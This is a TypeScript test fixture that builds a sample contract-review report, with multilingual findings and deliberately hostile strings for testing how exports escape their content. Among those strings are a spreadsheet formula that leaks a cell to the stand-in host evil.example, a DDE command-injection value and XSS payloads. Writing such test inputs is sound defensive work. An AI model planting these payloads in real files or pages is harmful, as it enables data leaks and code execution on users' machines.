import type {
  ReportContent,
  ReportDecision,
  ReportFinding,
  ReportSection,
} from '../../../src/reports/report-content.ts';
import type { Evidence } from '../../../src/review/evidence.ts';

/**
 * A review that has everything a report can meet: every state of a section, every kind, risk and decision, several scripts, and text
 * that means harm to whatever shows it. Offsets belong to a text that the fixture does not have.
 */

export const hostileTitle = '<script>alert("title")</script> & "quotes" \'single\'';
export const hostileFormula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
export const longWord = 'Donaudampfschifffahrtsgesellschaftskapitänsmützenabzeichen'.repeat(6);

const at = (minute: number): Date => new Date(Date.UTC(2026, 10, 26, 9, minute, 0));

const quoted = (quote: string, startOffset: number, page: number | null = 1): Evidence => ({
  quote,
  startOffset,
  endOffset: startOffset + quote.length,
  page,
  verified: true,
});

const unverified = (quote: string): Evidence => ({
  quote,
  startOffset: null,
  endOffset: null,
  page: null,
  verified: false,
});

const decision = (
  minute: number,
  actor: string,
  status: ReportDecision['status'],
  note: string | null,
  carriedOver: ReportDecision['carriedOver'] = null,
): ReportDecision => ({ at: at(minute), actor, status, note, carriedOver });

let count = 0;
function finding(parts: Partial<ReportFinding> & Pick<ReportFinding, 'title' | 'detail'>): ReportFinding {
  count += 1;
  return {
    id: `fbk_${String(count).padStart(26, '0')}`,
    number: count,
    source: 'MODEL',
    kind: 'RISK',
    category: 'liability',
    risk: 'MEDIUM',
    recommendation: null,
    questions: [],
    confidence: 0.9,
    status: 'PENDING',
    evidence: [],
    checks: [],
    otherPlaces: [],
    history: [],
    createdAt: at(10),
    ...parts,
  };
}

let ordinal = 0;
function section(parts: Partial<ReportSection> & Pick<ReportSection, 'title'>): ReportSection {
  ordinal += 1;
  return {
    id: `sec_${String(ordinal).padStart(26, '0')}`,
    level: 1,
    pageStart: ordinal,
    state: 'COMPLETED',
    reason: null,
    summary: null,
    risk: null,
    confidence: 0.91,
    modelName: 'Claude Sonnet 4.5',
    findings: [],
    ...parts,
  };
}

const notAnalysed = (state: ReportSection['state'], reason: string) =>
  ({ state, reason, confidence: null, modelName: null }) as const;

const liability = section({
  title: '1 Liability & indemnities',
  risk: 'CRITICAL',
  summary: 'The supplier carries no liability at all, and the customer an unlimited one.\n\nBoth need a ceiling.',
  findings: [
    finding({
      title: 'Unlimited liability of the customer',
      detail: 'The customer is liable without any limit.\nNeither amount nor time is bounded.',
      recommendation: 'Limit it to the fees of twelve months.',
      risk: 'CRITICAL',
      confidence: 0.97,
      status: 'ACCEPTED',
      questions: ['Was a ceiling ever offered?', 'Does the insurance cover this?'],
      evidence: [quoted('The Customer shall be liable without limitation', 120), quoted('regardless of fault', 210)],
      checks: [
        { ref: 'contract.liability', title: 'Liability is limited on both sides' },
        { ref: 'contract.balance', title: 'Duties are balanced' },
      ],
      otherPlaces: [
        {
          sectionTitle: '1.1 Ausschlüsse – “Sonderfälle”',
          evidence: [quoted('haftet unbeschränkt', 900, 2)],
        },
        { sectionTitle: '4 付款条件', evidence: [unverified('without … limit')] },
      ],
      history: [
        decision(20, 'ana@example.com', 'REJECTED', 'Thought it was standard.'),
        decision(25, 'ana@example.com', 'PENDING', null),
        decision(31, 'bo@example.com', 'ACCEPTED', 'Talked to counsel: must be limited.\nSee minutes.'),
      ],
    }),
    finding({
      title: 'No liability of the supplier',
      detail: 'The supplier excludes even gross negligence, which is void in several jurisdictions.',
      risk: 'HIGH',
      confidence: 0.88,
      evidence: [quoted('The Supplier accepts no liability whatsoever', 300)],
    }),
  ],
});

const exclusions = section({
  title: '1.1 Ausschlüsse – “Sonderfälle”',
  level: 2,
  risk: 'LOW',
  summary: 'Exclusions in German; naïve façade, coöperation, Åse, Łódź, ﬁﬂ.',
  findings: [
    finding({
      title: hostileTitle,
      detail: `${hostileFormula} </td></table><img src=x onerror=alert(1)> & &amp; ${longWord}`,
      recommendation: '+cmd|\' /C calc\'!A0 then "quote", comma, semicolon; and a\ttab',
      category: '@SUM(1+1)*cmd',
      kind: 'SUGGESTION',
      risk: 'LOW',
      confidence: 0.81,
      status: 'REJECTED',
      questions: ['-1+1 <b>bold?</b>'],
      evidence: [quoted('</script><!-- ]]> --> javascript:alert(1)', 950, 2), unverified('=1+1')],
      checks: [{ ref: '=ref', title: '<i>check</i>' }],
      history: [decision(40, '=evil@example.com', 'REJECTED', '=cmd()\r\nnot a finding')],
    }),
    finding({
      title: 'A ceiling in clear words is good',
      detail: 'The ceiling for late delivery is stated in figures and words.',
      kind: 'STRENGTH',
      category: 'clarity',
      risk: 'LOW',
      confidence: 1,
      status: 'ACCEPTED',
      history: [decision(42, 'bo@example.com', 'ACCEPTED', null, { from: 'OTHER_PLACE', decidedAt: null })],
    }),
  ],
});

const nested = section({
  title: '1.1.1 A level that is skipped, and a section in which nothing was found',
  level: 4,
  summary: 'Nothing to object to.',
  pageStart: null,
});

const chinese = section({
  title: '4 付款条件',
  risk: 'HIGH',
  summary: '付款期限不明确，可能产生争议。日本語のテキストも含まれます。한국어도 있습니다.',
  findings: [
    finding({
      title: '付款期限缺失',
      detail: '合同没有规定付款期限。支払期限が定められていません。지급 기한이 없습니다.',
      recommendation: '明确规定三十天内付款。',
      kind: 'GAP',
      category: '付款',
      risk: 'HIGH',
      confidence: 0.86,
      evidence: [quoted('甲方应在合理时间内付款', 1_500, 4)],
      checks: [{ ref: 'contract.payment', title: 'Payment has a term' }],
    }),
    finding({
      title: 'شرط التحكيم غير واضح – סעיף הבוררות אינו ברור',
      detail: 'النص لا يحدد مكان التحكيم (Paris أم Genève؟). ההסכם אינו קובע את מקום הבוררות.',
      kind: 'QUESTION',
      category: 'arbitration',
      risk: 'MEDIUM',
      confidence: 0.84,
      questions: ['أين يجري التحكيم؟', 'היכן תתקיים הבוררות?'],
      evidence: [quoted('يحل النزاع بالتحكيم', 1_700, 4)],
    }),
    finding({
      title: 'Emoji and combining marks: 👩‍⚖️ 🇪🇺 ⚠️ é ä̈ ộ नमस्ते ไทย',
      detail:
        'Decomposed “café” (cafe\u0301) and zero-width\u200bspace, soft\u00adhyphen, no-break\u00a0space, 𝔘𝔫𝔦𝔠𝔬𝔡𝔢.',
      category: 'form',
      risk: 'LOW',
      confidence: 0.8,
      evidence: [quoted('⚠️ 付款 👩‍⚖️', 1_800, 5)],
    }),
  ],
});

const reviewers = section({
  title: '5 Term and termination',
  risk: 'MEDIUM',
  summary: 'Either party may end it.',
  modelName: 'Claude Sonnet 4.0',
  findings: [
    finding({
      source: 'REVIEWER',
      title: 'Notice period differs from the master agreement',
      detail: 'Thirty days here, ninety in the master agreement of 2024.',
      kind: 'RISK',
      category: 'termination',
      risk: 'MEDIUM',
      confidence: 1,
      status: 'ACCEPTED',
      evidence: [quoted('thirty (30) days’ notice', 2_100, 6)],
      history: [decision(50, 'chi@example.com', 'ACCEPTED', null, { from: 'EARLIER_ANALYSIS', decidedAt: at(3) })],
    }),
    ...Array.from({ length: 12 }, (_, index) =>
      finding({
        title: `Undefined term ${index + 1}`,
        detail: `The term number ${index + 1} is used and nowhere defined.`,
        kind: 'GAP',
        category: 'definitions',
        risk: index % 2 === 0 ? 'LOW' : 'MEDIUM',
        confidence: 0.8 + index / 100,
        evidence: [quoted(`Term ${index + 1}`, 2_200 + index * 40, 6)],
      }),
    ),
  ],
});

/** A whole review; `findings` are numbered 1 to 20. */
export const sampleContent: ReportContent = {
  generatedAt: new Date(Date.UTC(2026, 10, 26, 12, 30, 15)),
  version: '1.2.3',
  isSimulated: true,
  sessionTitle: 'Acquisition of Łódź & Sons <2026>',
  document: {
    id: 'doc_00000000000000000000000001',
    filename: 'Master “Services” Agreement – 合同 <final>.docx',
    format: 'DOCX',
    sizeBytes: 123_456,
    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    pageCount: 7,
    wordCount: 3_210,
    uploadedAt: at(0),
  },
  playbook: { name: 'Contract review', description: 'What a contract must say, and must not.' },
  threshold: 0.8,
  belowThreshold: 3,
  risk: 'CRITICAL',
  sections: [
    liability,
    exclusions,
    nested,
    section({
      title: '2 Definitions',
      ...notAnalysed('FAILED', 'No model of the chain answered. Retry the analysis later.'),
    }),
    section({ title: '3 Services', ...notAnalysed('CANCELLED', 'Its analysis was cancelled.') }),
    chinese,
    reviewers,
    section({ title: '6 Governing law', ...notAnalysed('QUEUED', 'Its analysis is waiting for a worker.') }),
    section({ title: '7 Notices', ...notAnalysed('RUNNING', 'Its analysis was still running.') }),
    section({ title: 'Annex A: العربية', ...notAnalysed('NOT_STARTED', 'It was never sent to analysis.') }),
  ],
  models: [
    {
      name: 'Claude Sonnet 4.5',
      calls: 6,
      inputTokens: 45_678,
      outputTokens: 9_876,
      cacheReadTokens: 12_000,
      cacheWriteTokens: 3_000,
      costUsd: 0.300_174,
    },
    {
      name: 'Claude Sonnet 4.0',
      calls: 2,
      inputTokens: 5_000,
      outputTokens: 700,
      cacheReadTokens: 0,
      cacheWriteTokens: 0,
      costUsd: 0.0255,
    },
  ],
};

/** A document of which nothing was analysed: a report can be asked for at any time. */
export const emptyContent: ReportContent = {
  ...sampleContent,
  isSimulated: false,
  sessionTitle: 'Nothing yet',
  document: { ...sampleContent.document, filename: 'notes.txt', format: 'TEXT', pageCount: null },
  belowThreshold: 0,
  risk: null,
  sections: [
    {
      ...section({ title: 'Notes', ...notAnalysed('NOT_STARTED', 'It was never sent to analysis.') }),
      pageStart: null,
    },
  ],
  models: [],
};
